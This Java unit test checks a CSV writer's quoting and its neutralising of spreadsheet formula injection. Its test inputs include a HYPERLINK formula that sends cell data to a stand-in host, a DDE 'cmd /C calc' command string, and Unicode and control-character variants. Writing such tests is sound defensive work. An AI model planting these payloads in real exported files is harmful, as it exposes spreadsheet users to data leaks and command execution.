package dev.vibrissa.api.page;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvWriterTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "plain|plain",
                "a,b|\"a,b\"",
                "say \"hi\"|\"say \"\"hi\"\"\"",
                // A separator elsewhere does not begin a cell.
                "a;=1+1|\"a;=1+1\"",
            })
    void quotesWhatNeedsIt(String cell, String written) {
        assertThat(CsvWriter.quoted(cell)).isEqualTo(written);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://example.test/?\"&A1)",
                "+1+cmd|' /C calc'!A0",
                "-cmd()",
                "-1+1",
                "-2.5.1",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\uFF1D1+1",
                "\uFF20SUM(A1)"
            })
    void whatASpreadsheetWouldRunIsText(String text) {
        assertThat(CsvWriter.inert(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"", "-", "-1", "-0.25", "+3", "-pVnViP7o1em_wzNlPYcS-hEj7lBvX29IKFTVS9__cA", "a=b", "0x0", "1e-7"
            })
    void numbersAndIdsStayAsTheyAre(String text) {
        assertThat(CsvWriter.inert(text)).isEqualTo(text);
    }
}
